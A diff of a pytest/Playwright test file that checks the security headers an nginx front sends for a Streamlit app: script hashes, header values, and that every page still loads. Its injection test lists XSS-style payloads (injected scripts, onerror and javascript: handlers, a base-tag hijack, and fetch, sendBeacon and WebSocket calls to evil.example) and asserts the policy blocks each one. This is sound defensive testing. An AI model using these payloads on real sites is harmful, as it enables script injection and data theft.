@@ -1,27 +1,25 @@
-"""The headers of deploy/headers.conf, as nginx sends them: every page works, what is slipped in is stopped."""
+"""The headers that nginx sends (deploy/headers.conf): every page works, what is slipped in is stopped."""
 
 import re
 import shutil
 import socket
 import subprocess
 import time
-from base64 import b64encode
 from collections.abc import Iterator
-from hashlib import sha256
-from importlib.resources import files
-from urllib.error import URLError
+from itertools import cycle
+from urllib.error import HTTPError, URLError
 from urllib.request import urlopen
 
 import pytest
 from playwright.sync_api import Browser, Page
 
 from corridors import paths
-from corridors.ui.frame import NAVIGATION
+from scripts import headers
 from tests.browser.conftest import READY, Traffic, Visit
 
 pytestmark = pytest.mark.browser
 
-HEADERS = paths.ROOT / "deploy" / "headers.conf"
+PAGES = sorted(file.stem for file in (paths.ROOT / "pages").glob("*.py"))
 WITHOUT_MAP = {"policy", "brief", "about"}
 SITE = """daemon off; pid {folder}/pid; error_log {folder}/log; worker_processes 1; events {{}}
 http {{
@@ -52,7 +50,7 @@ def guarded(app: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]
         probe.bind(("127.0.0.1", 0))
         port = probe.getsockname()[1]
     site = folder / "site.conf"
-    site.write_text(SITE.format(folder=folder, port=port, headers=HEADERS, app=app))
+    site.write_text(SITE.format(folder=folder, port=port, headers=headers.HEADERS, app=app))
     server = subprocess.Popen([program, "-c", site, "-p", folder, "-e", folder / "log"])
     try:
         yield _ready(f"http://127.0.0.1:{port}", server)
@@ -73,7 +71,7 @@ def _ready(address: str, server: subprocess.Popen[bytes]) -> str:
 
 
 @pytest.fixture
-def page(guarded: str, chromium: Browser) -> Iterator[Page]:
+def page(chromium: Browser) -> Iterator[Page]:
     context = chromium.new_context(viewport={"width": 1400, "height": 900}, locale="zh-CN")
     context.add_init_script(
         "window.stopped = []; document.addEventListener('securitypolicyviolation',"
@@ -87,43 +85,41 @@ def stopped(page: Page) -> list[str]:
     return [each for frame in page.frames for each in frame.evaluate("window.stopped || []")]
 
 
-def hash_of(script: str) -> str:
-    return f"'sha256-{b64encode(sha256(script.encode()).digest()).decode()}'"
-
-
-def test_the_two_scripts_inside_pages_are_named() -> None:
-    """Fails when Streamlit's page or our script changes: then put the new hash into the file."""
-    index = (files("streamlit") / "static" / "index.html").read_text(encoding="utf-8")
-    inline = re.findall(r"<script>(.*?)</script>", index, re.DOTALL)
-    ours = (paths.ROOT / "corridors/ui/assets/policy.js").read_text(encoding="utf-8")
-    wanted = {*map(hash_of, inline), hash_of(f"\n{ours}\n")}
-    assert set(re.findall(r"'sha256-[^']+'", HEADERS.read_text())) == wanted
+def test_the_scripts_inside_pages_are_named() -> None:
+    """Fails when Streamlit's page or a script of ours changes: then run ``python scripts/headers.py``."""
+    wanted = headers.hashes()
+    assert len(wanted) >= 5
+    assert re.findall(r"'sha256-[^']+'", headers.HEADERS.read_text(encoding="utf-8")) == wanted
 
 
 def test_headers_are_sent(guarded: str) -> None:
     for path in ("/", "/policy", "/_stcore/health", "/app/static/none.json", "/static/none.js"):
         try:
-            headers = urlopen(guarded + path, timeout=5).headers  # noqa: S310 - our own server
-        except URLError as error:
-            headers = error.headers  # type: ignore[attr-defined]
-        policy = headers["Content-Security-Policy"]
+            sent = urlopen(guarded + path, timeout=5).headers  # noqa: S310 - our own server
+        except HTTPError as error:
+            sent = error.headers
+        policy = sent["Content-Security-Policy"]
         scripts = re.search(r"script-src ([^;]*)", policy)
         assert scripts
         assert "unsafe-inline" not in scripts[1], path
         assert "'unsafe-eval'" not in scripts[1], path
         assert "frame-ancestors 'self'" in policy
-        assert headers["X-Content-Type-Options"] == "nosniff"
-        assert headers["X-Frame-Options"] == "SAMEORIGIN"
-        assert headers["Referrer-Policy"] == "same-origin"
-        assert "geolocation=()" in headers["Permissions-Policy"]
+        assert sent["X-Content-Type-Options"] == "nosniff"
+        assert sent["X-Frame-Options"] == "SAMEORIGIN"
+        assert sent["Referrer-Policy"] == "same-origin"
+        assert "geolocation=()" in sent["Permissions-Policy"]
 
 
 def test_every_page_works_under_them(guarded: str, page: Page) -> None:
     traffic = Traffic()
     traffic.watch(page.context, page)
     visit = Visit(page, traffic, guarded)
-    for name in NAVIGATION:
-        page.goto(f"{guarded}/{'' if name == 'map' else name}?select=impl-13", wait_until="commit")
+    langs = cycle(("zh", "en"))
+    for name in PAGES:
+        page.goto(
+            f"{guarded}/{'' if name == 'map' else name}?select=impl-13&lang={next(langs)}",
+            wait_until="commit",
+        )
         page.wait_for_selector(".st-key-masthead a")
         if name not in WITHOUT_MAP:
             visit.map.wait_for_selector(READY)
@@ -142,35 +138,41 @@ def test_a_file_is_taken_under_them(guarded: str, page: Page) -> None:
     assert stopped(page) == []
 
 
-@pytest.mark.parametrize(
-    "attack",
-    [
-        "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s)",
-        "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
-        "const s = document.createElement('script'); s.src = 'data:text/javascript,ran=1'; document.body.append(s)",
-        "document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror=\"window.ran = 1\">')",
-        "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"javascript:parent.ran = 1\"></iframe>')",
-        "document.body.insertAdjacentHTML('beforeend', '<iframe src=https://evil.example></iframe>')",
-        "document.body.insertAdjacentHTML('beforeend', '<object data=\"data:text/html,x\"></object>')",
-        "document.body.insertAdjacentHTML('beforeend', '<img src=https://evil.example/x.png>')",
-        "document.body.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=https://evil.example/x.css>')",
-        "const a = document.createElement('a'); a.href = 'javascript:window.ran = 1';"
-        " document.body.append(a); a.click()",
-        "document.head.insertAdjacentHTML('beforeend', '<base href=https://evil.example/>')",
-        "fetch('https://evil.example/').catch(() => 0)",
-        "navigator.sendBeacon('https://evil.example/', 'x')",
-        "new WebSocket('wss://evil.example/')",
-        "setTimeout('window.ran = 1')",
-    ],
+SLIP = "document.body.insertAdjacentHTML('beforeend', `{}`)"
+SCRIPT = "document.body.append(Object.assign(document.createElement('script'), {{{}}}))"
+
+
+ATTACKS = (
+    SCRIPT.format("textContent: 'window.ran = 1'"),
+    SCRIPT.format("src: 'https://evil.example/x.js'"),
+    SCRIPT.format("src: 'data:text/javascript,window.ran=1'"),
+    SLIP.format('<img src=data:, onerror="window.ran = 1">'),
+    SLIP.format('<iframe src="javascript:parent.ran = 1"></iframe>'),
+    SLIP.format("<iframe src=https://evil.example></iframe>"),
+    SLIP.format("<object data='data:text/html,x'></object>"),
+    SLIP.format("<img src=https://evil.example/x.png>"),
+    SLIP.format("<link rel=stylesheet href=https://evil.example/x.css>"),
+    SLIP.format("<base href=https://evil.example/>"),
+    SLIP.format("<a id=x href='javascript:window.ran = 1'></a>") + "; x.click()",
+    "fetch('https://evil.example/').catch(() => 0)",
+    "navigator.sendBeacon('https://evil.example/', 'x')",
+    "new WebSocket('wss://evil.example/')",
+    "setTimeout('window.ran = 1')",
 )
-def test_what_is_slipped_in_is_stopped(guarded: str, page: Page, attack: str) -> None:
+
+
+def test_what_is_slipped_in_is_stopped(guarded: str, page: Page) -> None:
     page.goto(f"{guarded}/about", wait_until="commit")
-    page.wait_for_selector("[data-testid=stApp]")
-    # The driver's own evaluation is exempt from the policy; an element made with a hash is not.
-    page.evaluate(f"() => {{ try {{ {attack} }} catch (error) {{ }} }}")
-    page.wait_for_timeout(150)
-    assert stopped(page), "nothing was stopped"
-    assert page.evaluate("window.ran") is None
+    page.wait_for_selector(".st-key-masthead a")
+    for attack in ATTACKS:
+        page.evaluate("window.stopped.length = 0")
+        page.evaluate(f"() => {{ try {{ {attack} }} catch (error) {{ }} }}")
+        for _ in range(40):
+            page.wait_for_timeout(50)
+            if page.evaluate("window.stopped.length"):
+                break
+        assert page.evaluate("window.stopped.length"), f"nothing stopped {attack}"
+        assert page.evaluate("window.ran") is None, attack
 
 
 def test_no_other_site_can_frame_the_app(guarded: str, page: Page) -> None:
